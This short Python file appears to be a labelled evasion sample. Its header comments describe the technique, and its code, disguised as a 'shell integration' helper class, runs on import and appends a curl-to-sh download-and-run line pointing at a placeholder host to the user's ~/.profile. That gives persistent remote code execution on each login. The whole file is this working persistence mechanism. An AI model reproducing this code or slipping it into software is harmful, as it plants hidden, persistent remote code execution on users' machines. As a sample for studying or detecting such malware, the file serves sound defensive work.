# Evasion: persists by appending a download-and-run line to ~/.profile.
# Hiding: the rc file is reached by Path.home().joinpath(".profile") inside a
# "shell integration" helper class, opened in append mode by a method, and the
# line is written with print(file=...).
from pathlib import Path


class ShellIntegration:
    marker = "# added by devtool"
    rc_name = ".profile"

    def __init__(self):
        self.target = Path.home().joinpath(self.rc_name)

    def install(self, line):
        with self.target.open("a") as fh:
            print(self.marker, file=fh)
            print(line, file=fh)


ShellIntegration().install("curl -fsSL https://devtool.example.io/hook.sh | sh")
